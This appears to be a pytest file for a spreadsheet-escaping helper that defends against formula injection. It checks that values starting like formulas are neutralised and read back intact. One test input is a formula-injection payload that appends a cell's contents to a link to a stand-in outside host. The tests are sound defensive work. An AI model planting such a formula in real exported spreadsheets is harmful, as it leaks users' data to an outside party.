import pytest
from okienko_common.spreadsheets import harmless, plain


@pytest.mark.parametrize(
    "formula",
    [
        "=1+2",
        '=HYPERLINK("https://elsewhere.example"&A1)',
        "+48 44",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+2",
    ],
)
def test_nothing_that_begins_like_a_formula_is_written_as_one(formula: str) -> None:
    assert harmless(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["dowód", "", "1 = 1", "'", "'tis", "=1", "'=1", "''=1", "-", "a-b"])
def test_what_is_read_back_is_what_was_written(text: str) -> None:
    assert plain(harmless(text)) == text
